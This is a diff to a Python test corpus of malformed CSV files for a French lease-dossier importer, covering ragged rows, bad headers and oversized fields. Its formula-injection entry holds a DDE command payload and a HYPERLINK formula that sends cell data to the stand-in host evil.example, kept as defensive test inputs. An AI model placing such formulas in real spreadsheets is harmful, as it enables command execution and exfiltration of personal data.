@@ -60,14 +60,15 @@ CORPUS: dict[str, bytes] = {
     "near-miss-optional-header.csv": lines(
         good(1), header=EXPLOC.replace("Loyer mensuel", "Loyer mensul")
     ),
-    "duplicated-header.csv": lines(good(1), header=EXPLOC.replace("Date du bail", "Date de l'acte")),
+    "duplicated-header.csv": lines(
+        good(1), header=EXPLOC.replace("Date du bail", "Date de l'acte")
+    ),
     "no-header.csv": lines(good(2), header=good(1)),
     "ragged-rows.csv": lines(
         good(1),
         "H-2;Mme;PETIT;Lou;3 rue de Paris;;93100;Montreuil",
         good(3) + ";en trop;encore",
-        "H-4;Mme;PETIT;Lou;12, rue de Paris;;93100;Montreuil;Bailleur social;OPH;2 000,00;;01/10/2026;;Oui"
-        .replace("12, rue", "12; rue"),
+        row(4, Adresse="12; rue de Paris"),  # a separator inside an unquoted value
     ),
     "oversized-field.csv": lines(row(1, Adresse='"' + "x" * 200_000 + '"'), good(2)),
     "long-field.csv": lines(row(1, Nom="N" * 301), good(2)),
@@ -108,7 +109,9 @@ CORPUS: dict[str, bytes] = {
         "C-2;Mme;MARTIN;Léa;2 rue de Paris;;93100;Montreuil;Social;OPH;2 000,00;;CDP;01/10/2026;;oui",
         header=CLIL,
     ),
-    "unterminated-quote.csv": lines(good(1), 'H-2;"Mme;MARTIN;Léa', *(good(n) for n in range(3, 6))),
+    "unterminated-quote.csv": lines(
+        good(1), 'H-2;"Mme;MARTIN;Léa', *(good(n) for n in range(3, 6))
+    ),
     "formula-injection.csv": lines(
         row(1, **{"N°_dossier_EXPLOC": "=cmd|' /C calc'!A0"}),
         row(2, **{"N°_dossier_EXPLOC": '"=HYPERLINK(""http://evil.example/?""&A1;""clic"")"'}),
